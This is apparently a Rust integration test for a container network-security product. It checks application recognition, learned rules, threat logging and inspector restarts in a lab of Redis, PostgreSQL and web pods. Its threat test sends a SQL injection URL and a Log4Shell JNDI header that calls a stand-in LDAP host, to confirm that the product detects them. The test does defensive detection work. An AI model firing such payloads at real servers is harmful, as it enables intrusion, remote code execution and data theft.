//! What pods say to one another: applications are recognised and become rules, attacks are told, over IPv4 and IPv6.

use std::net::IpAddr;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use nv_lab::{ContainerSpec, Image, Lab, Output, Pod, PodSpec};
use nv_scene::{CLIENT_GROUP, NAMESPACE, Scene, WEB_GROUP};
use serde_json::Value;

const REDIS_IMAGE: &str = "docker.io/scene/redis:1";
const SQL_IMAGE: &str = "docker.io/scene/sql:1";
const TOOLS_IMAGE: &str = "docker.io/scene/tools:1";
const SQL_PROGRAMS: &str = "/usr/lib/postgresql/15/bin";
const TOOLS_GROUP: &str = "nv.tools.shop";
const REDIS_GROUP: &str = "nv.redis.shop";
const SQL_GROUP: &str = "nv.sql.shop";

fn images() -> Result<[Image; 3]> {
    let redis = Image::busybox(REDIS_IMAGE)?.program("/usr/bin/redis-server", "redis-server")?.command(&[
        "/usr/bin/redis-server",
        "--bind",
        "*",
        "-::*",
        "--protected-mode",
        "no",
        "--save",
        "",
    ]);
    let start = format!(
        "{SQL_PROGRAMS}/initdb -D /tmp/data -U shop -A trust --no-sync -E UTF8 --locale C \
         && echo 'host all all all trust' >> /tmp/data/pg_hba.conf \
         && exec {SQL_PROGRAMS}/postgres -D /tmp/data -c listen_addresses='*' -c unix_socket_directories=/tmp"
    );
    let mut sql = Image::busybox(SQL_IMAGE)?.tree("/usr/share/postgresql/15", "postgresql-15")?;
    for program in ["initdb", "postgres"] {
        sql = sql.program(&format!("{SQL_PROGRAMS}/{program}"), "postgresql-15")?;
    }
    for library in ["dict_snowball.so", "plpgsql.so"] {
        sql = sql.program(&format!("/usr/lib/postgresql/15/lib/{library}"), "postgresql-15")?;
    }
    let sql = sql.user("65534").command(&["/bin/sh", "-c", &start]);
    let tools = Image::busybox(TOOLS_IMAGE)?
        .program("/usr/bin/redis-cli", "redis-tools")?
        .program(&format!("{SQL_PROGRAMS}/psql"), "postgresql-client-15")?
        .command(&["/bin/sleep", "1000000"]);
    Ok([redis, sql, tools])
}

async fn pod(lab: &Lab, name: &str, image: &str) -> Result<Pod> {
    let spec = PodSpec::new(name, NAMESPACE).container(ContainerSpec::new("main", image, &[]));
    Ok(lab.run_pod(&spec).await?)
}

/// The scene with two databases and somebody who asks them.
struct Shop {
    scene: Scene,
    redis: Pod,
    sql: Pod,
    tools: Pod,
}

impl Shop {
    async fn open(name: &str) -> Result<Self> {
        let scene = Scene::start(name).await?;
        for image in &images()? {
            scene.lab.import(image).await?;
        }
        let redis = pod(&scene.lab, "redis-7d9c5b8f6-x7x5z", REDIS_IMAGE).await?;
        let sql = pod(&scene.lab, "sql-7d9c5b8f6-k4j8m", SQL_IMAGE).await?;
        let tools = pod(&scene.lab, "tools-7d9c5b8f6-q8w7r", TOOLS_IMAGE).await?;
        Ok(Self { scene, redis, sql, tools })
    }
    async fn run(&self, command: &[&str]) -> Result<Output> {
        Ok(self.scene.lab.exec(self.tools.container(), command).await?)
    }
    /// Asks a server until it answers.
    async fn ask(&self, command: &[&str]) -> Result<()> {
        let mut last = String::new();
        for _ in 0..60 {
            let output = self.run(command).await?;
            if output.exit_code == 0 {
                return Ok(());
            }
            last = output.stderr;
            tokio::time::sleep(Duration::from_millis(500)).await;
        }
        anyhow::bail!("{command:?}: {last}")
    }
    /// Ordinary operation, in one family.
    async fn operate(&self, six: bool) -> Result<()> {
        let url = format!("http://{}/index.html", host(address(&self.scene.web, six)?));
        self.ask(&["/bin/wget", "-q", "-O", "-", &url]).await?;
        let redis = address(&self.redis, six)?.to_string();
        self.ask(&["/usr/bin/redis-cli", "-h", &redis, "SET", "basket", "3"]).await?;
        let sql = address(&self.sql, six)?.to_string();
        let psql = format!("{SQL_PROGRAMS}/psql");
        self.ask(&[&psql, "-h", &sql, "-U", "shop", "-d", "postgres", "-c", "SELECT 40 + 2"]).await
    }
    async fn stop(self) -> Result<()> {
        self.scene.stop().await
    }
}

fn address(pod: &Pod, six: bool) -> Result<IpAddr> {
    if six { pod.ipv6() } else { pod.ipv4() }.context("the pod has no such address")
}

/// As a part of a URL.
fn host(address: IpAddr) -> String {
    if address.is_ipv6() { format!("[{address}]") } else { address.to_string() }
}

fn text<'a>(value: &'a Value, key: &str) -> &'a str {
    value.get(key).and_then(Value::as_str).unwrap_or_default()
}

fn list<'a>(value: &'a Value, key: &str) -> Vec<&'a str> {
    let items = value.get(key).and_then(Value::as_array).into_iter().flatten();
    items.filter_map(Value::as_str).collect()
}

/// A learned rule between two groups for one application on one port.
fn has_rule(answer: &Value, to: &str, application: &str, port: &str) -> Option<()> {
    let rules = answer.get("rules")?.as_array()?;
    rules
        .iter()
        .any(|rule| {
            text(rule, "from") == TOOLS_GROUP
                && text(rule, "to") == to
                && list(rule, "applications") == [application]
                && text(rule, "ports") == port
        })
        .then_some(())
}

/// An entry of a conversation with this application and server.
fn has_entry(answer: &Value, application: &str, server: IpAddr) -> Option<()> {
    let entries = answer.pointer("/conversation/entries")?.as_array()?;
    entries
        .iter()
        .any(|entry| {
            text(entry, "application") == application && text(entry, "server_ip") == server.to_string()
        })
        .then_some(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_redis_and_postgresql_are_recognised_in_both_families_and_learned_as_rules() -> Result<()> {
    let shop = Shop::open("apps").await?;
    let api = &shop.scene.api;
    let expected = [
        (WEB_GROUP, "HTTP", "tcp/80", &shop.scene.web),
        (REDIS_GROUP, "Redis", "tcp/6379", &shop.redis),
        (SQL_GROUP, "PostgreSQL", "tcp/5432", &shop.sql),
    ];
    let shown = async {
        for (to, application, port, pod) in expected {
            api.wait_for("/v1/policy/rule", Duration::from_secs(20), |answer| {
                has_rule(answer, to, application, port)
            })
            .await
            .with_context(|| format!("{application} is no rule from {TOOLS_GROUP} to {to}"))?;
            let path = format!("/v1/workload/{}", pod.container().id);
            api.wait_for(&path, Duration::from_secs(10), |answer| {
                list(answer.get("workload")?, "applications").contains(&application).then_some(())
            })
            .await
            .with_context(|| format!("{application} is not shown at {to}"))?;
            let path = format!("/v1/conversation/{}/{}", shop.tools.sandbox.id, pod.sandbox.id);
            for six in [false, true] {
                let server = address(pod, six)?;
                api.wait_for(&path, Duration::from_secs(10), |answer| has_entry(answer, application, server))
                    .await
                    .with_context(|| format!("{application} at {server} is in no conversation"))?;
            }
        }
        anyhow::Ok(())
    };
    // A pod's very first connections may be before its veth is watched.
    let talk = async {
        loop {
            for six in [false, true] {
                shop.operate(six).await?;
            }
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    };
    tokio::select! {
        shown = shown => shown,
        hurt = talk => hurt,
    }?;
    Box::pin(shop.stop()).await
}

/// The newest threat of this name by this group at this server.
fn threat(answer: &Value, name: &str, group: &str, server: IpAddr) -> Option<Value> {
    let threats = answer.get("threats")?.as_array()?;
    threats
        .iter()
        .find(|record| {
            text(record, "name") == name
                && text(record, "client_workload_service") == group
                && text(record, "server_ip") == server.to_string()
        })
        .cloned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_attack_is_told_with_its_packet_in_every_mode_and_family() -> Result<()> {
    let shop = Shop::open("threat").await?;
    let api = &shop.scene.api;
    for six in [false, true] {
        shop.operate(six).await?;
    }
    // One more client, as the same attack by the same one is counted with the first for a minute.
    shop.scene.operate().await?;
    shop.scene.wait_learned().await?;
    let injection = "/items?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20";
    let lookup = "X-Api-Version: ${${lower:j}ndi:ldap://198.51.100.7/a}";
    for (mode, attacker, group, six) in [
        ("Discover", &shop.tools, TOOLS_GROUP, false),
        ("Monitor", &shop.tools, TOOLS_GROUP, true),
        ("Protect", &shop.scene.client, CLIENT_GROUP, false),
    ] {
        api.set_modes(&["web.shop", "tools.shop", "client.shop"], mode).await?;
        tokio::time::sleep(Duration::from_secs(2)).await;
        let server = address(&shop.scene.web, six)?;
        let base = format!("http://{}", host(server));
        // The page is not there; what counts is that it was asked for.
        let get = ["/bin/wget", "-q", "-O", "-"];
        let (attack, page) = (format!("{base}{injection}"), format!("{base}/index.html"));
        for words in [vec![attack.as_str()], vec!["--header", lookup, &page]] {
            shop.scene.lab.exec(attacker.container(), &[&get[..], &words].concat()).await?;
        }
        for (name, id, proof) in
            [("SQL.Injection", 2022, "UNION"), ("Log4Shell.Remote.Code.Execution", 3001, "lower:j")]
        {
            let (record, _) = api
                .wait_for("/v1/log/threat", Duration::from_secs(10), |answer| {
                    threat(answer, name, group, server)
                })
                .await
                .with_context(|| format!("{name} is not told in {mode}"))?;
            ensure!(record.get("threat_id").and_then(Value::as_u64) == Some(id), "{record}");
            ensure!(
                text(&record, "severity") == "Critical" && text(&record, "level") == "Critical",
                "{record}"
            );
            ensure!(
                text(&record, "target") == "server" && text(&record, "application") == "HTTP",
                "{record}"
            );
            ensure!(text(&record, "client_workload_service") == group, "{record}");
            ensure!(text(&record, "server_workload_service") == WEB_GROUP, "{record}");
            ensure!(text(&record, "packet").is_empty(), "a list has no packets: {record}");
            let one = api.get(&format!("/v1/log/threat/{}", text(&record, "id"))).await?;
            let packet = decode(one.pointer("/threat/packet").and_then(Value::as_str).unwrap_or_default());
            let shown = String::from_utf8_lossy(&packet).into_owned();
            ensure!(shown.contains(proof), "{name} in {mode}: {shown:?}");
        }
    }
    Box::pin(shop.stop()).await
}

/// Base64 (RFC 4648 §4).
fn decode(text: &str) -> Vec<u8> {
    let value = |letter: u8| {
        let letters = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        letters.iter().position(|one| *one == letter).and_then(|at| u32::try_from(at).ok())
    };
    let digits: Vec<u32> = text.bytes().filter_map(value).collect();
    let group = |four: &[u32]| {
        let sum = four.iter().chain(&[0, 0, 0]).take(4).fold(0, |sum, digit| sum << 6 | digit);
        let bytes = sum.to_be_bytes();
        bytes.into_iter().skip(1).take(four.len().saturating_sub(1)).collect::<Vec<u8>>()
    };
    digits.chunks(4).flat_map(group).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_inspector_that_is_killed_is_followed_by_another_and_packets_pass_meanwhile() -> Result<()> {
    let shop = Shop::open("killed").await?;
    let api = &shop.scene.api;
    let launcher = shop.scene.product.children().first().copied().context("no launcher")?;
    let inspectors = || {
        let children = nv_product::children(launcher);
        children.into_iter().filter(|pid| {
            let line = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            line.split(|byte| *byte == 0).any(|word| word == b"inspector")
        })
    };
    let first = inspectors().next().context("no inspector")?;
    let others: Vec<u32> = inspectors().skip(1).collect();
    let pid =
        i32::try_from(first).ok().and_then(rustix::process::Pid::from_raw).context("no such process")?;
    rustix::process::kill_process(pid, rustix::process::Signal::KILL)?;
    shop.operate(false).await?;
    let mut second = None;
    for _ in 0..100 {
        second = inspectors().find(|pid| *pid != first && !others.contains(pid));
        if second.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    ensure!(second.is_some(), "there is no other inspector");
    ensure!(
        others.iter().all(|other| inspectors().any(|pid| pid == *other)),
        "inspectors of other shares ended"
    );
    tokio::time::sleep(Duration::from_secs(1)).await;
    for _ in 0..3 {
        shop.operate(false).await?;
    }
    api.wait_for("/v1/policy/rule", Duration::from_secs(20), |answer| {
        has_rule(answer, REDIS_GROUP, "Redis", "tcp/6379")
    })
    .await?;
    Box::pin(shop.stop()).await
}
